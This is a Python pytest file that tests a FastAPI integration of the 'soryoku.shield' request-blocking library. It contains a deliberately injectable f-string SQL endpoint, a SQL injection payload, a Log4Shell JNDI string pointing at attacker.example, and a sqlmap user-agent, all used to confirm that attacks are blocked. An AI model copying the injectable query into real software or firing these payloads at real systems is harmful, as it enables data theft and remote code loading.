"""The FastAPI recipe of docs/shield.md: ``app = protect(FastAPI())`` through httpx's ASGI transport."""

from __future__ import annotations

import asyncio
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from soryoku.shield import ShieldConfig, protect

fastapi = pytest.importorskip("fastapi", reason="FastAPI is not installed (it is in the dev extra)")
httpx = pytest.importorskip("httpx", reason="httpx is not installed (it is in the dev extra)")
import pydantic  # noqa: E402  (FastAPI's own dependency)


class Search(pydantic.BaseModel):
    """The search endpoint's JSON body (module level: FastAPI resolves annotations by name)."""

    name: str


def _app(db: Path) -> Any:
    api = fastapi.FastAPI()

    @api.get("/items")
    def items(name: str) -> dict[str, list[int]]:  # sync: FastAPI runs it in a worker thread
        with sqlite3.connect(db) as conn:
            rows = conn.execute(f"SELECT id FROM items WHERE name = '{name}' ORDER BY id").fetchall()
        return {"ids": [r[0] for r in rows]}

    @api.post("/items/search")
    async def search(body: Search) -> dict[str, list[int]]:
        with sqlite3.connect(db) as conn:
            rows = conn.execute("SELECT id FROM items WHERE name = ?", (body.name,)).fetchall()
        return {"ids": [r[0] for r in rows]}

    return protect(api, ShieldConfig(mode="block"))


def _requests(app: Any, *calls: tuple[str, str, dict[str, Any]]) -> list[Any]:
    async def run() -> list[Any]:
        transport = httpx.ASGITransport(app=app, client=("203.0.113.9", 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://shop.example") as client:
            return [await client.request(method, url, **kwargs) for method, url, kwargs in calls]

    return asyncio.run(run())


@pytest.fixture
def app(tmp_path: Path) -> Any:
    db = tmp_path / "shop.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE items (id INTEGER, name TEXT)")
        conn.executemany("INSERT INTO items VALUES (?, ?)", [(1, "red shoes"), (2, "O'Brien boots")])
    conn.close()
    return _app(db)


def test_fastapi_legitimate_requests_pass(app: Any) -> None:
    by_name, by_body = _requests(
        app,
        ("GET", "/items", {"params": {"name": "red shoes"}}),
        ("POST", "/items/search", {"json": {"name": "O'Brien boots"}}),
    )
    assert (by_name.status_code, by_name.json()) == (200, {"ids": [1]})
    assert (by_body.status_code, by_body.json()) == (200, {"ids": [2]})
    assert "x-soryoku-block" not in by_name.headers


def test_fastapi_sink_block_in_a_worker_thread_becomes_403(app: Any) -> None:
    (response,) = _requests(app, ("GET", "/items", {"params": {"name": "x' OR '1'='1"}}))
    assert response.status_code == 403
    assert response.headers["x-soryoku-block"] == "sqli:token_structure"


def test_fastapi_request_rules_block_before_the_endpoint(app: Any) -> None:
    log4shell, scanner = _requests(
        app,
        ("POST", "/items/search", {"json": {"name": "${jndi:ldap://attacker.example/a}"}}),
        ("GET", "/items", {"params": {"name": "red shoes"}, "headers": {"user-agent": "sqlmap/1.7"}}),
    )
    assert (log4shell.status_code, log4shell.headers["x-soryoku-block"]) == (
        403,
        "known_bad_inputs:log4shell",
    )
    assert (scanner.status_code, scanner.headers["x-soryoku-block"]) == (403, "bot:security")
